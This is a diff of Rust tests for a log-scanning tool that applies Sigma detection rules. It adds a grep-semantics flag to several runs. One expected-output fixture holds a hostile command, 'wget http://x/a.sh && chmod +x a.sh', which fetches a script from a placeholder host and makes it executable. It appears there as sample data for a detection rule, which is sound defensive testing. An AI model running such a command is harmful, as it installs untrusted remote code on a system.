@@ -74,17 +74,17 @@ fn lines_are_tagged_with_their_rules() {
 
 #[test]
 fn a_rule_true_on_every_line_selects_every_line() {
-    // An empty value is a substring of every line (SigmaHQ's
-    // proxy_ua_empty): -c needs no scan, and every line is still tagged
-    // with every rule that selects it.
+    // In grep semantics an empty value is a substring of every line
+    // (SigmaHQ's proxy_ua_empty): -c needs no scan, and every line is
+    // still tagged with every rule that selects it.
     let dir = setup();
     dir.create(
         "rules/empty.yml",
         "title: Empty\ndetection:\n  sel:\n    c-useragent: ''\n  condition: sel\n",
     );
-    let r = dir.run(&["-f", "rules", "-c", "log.txt"]);
+    let r = dir.run(&["--semantics", "grep", "-f", "rules", "-c", "log.txt"]);
     assert_eq!((r.stdout.as_str(), r.code), ("5\n", 0));
-    let r = dir.run(&["-f", "rules", "-n", "log.txt"]);
+    let r = dir.run(&["--semantics", "grep", "-f", "rules", "-n", "log.txt"]);
     eqnice!(
         "1:empty,ssh:Failed password for bob from 1.2.3.4\n\
          2:empty,shell:wget http://x/a.sh && chmod +x a.sh\n\
@@ -315,12 +315,13 @@ fn attribution_on_generated_corpora_equals_single_rule_runs() {
     dir.create("loghub.log", std::fs::read(shared.join("corpus/loghub/Linux_2k.log")).unwrap());
     let mut rule_hits = 0;
     for corpus in ["windows.log", "linux.log", "loghub.log"] {
-        let all = dir.run(&["-n", "-f", "rules", corpus]);
+        // One rule's run is grep semantics: so is the set's here.
+        let all = dir.run(&["--semantics", "grep", "-n", "-f", "rules", corpus]);
         assert!(all.code <= 1, "{corpus}: {}", all.stderr);
         let tagged = lines_by_label(&all.stdout);
         // Counting (with this many rules, decided by attribution) agrees
         // with printing.
-        let count = dir.run(&["-c", "-f", "rules", corpus]);
+        let count = dir.run(&["--semantics", "grep", "-c", "-f", "rules", corpus]);
         assert_eq!(count.stdout.trim(), all.stdout.lines().count().to_string(), "{corpus}: -c");
         for stem in &stems {
             let alone = dir.run(&["-n", &format!("rules/{stem}.yml"), corpus]);
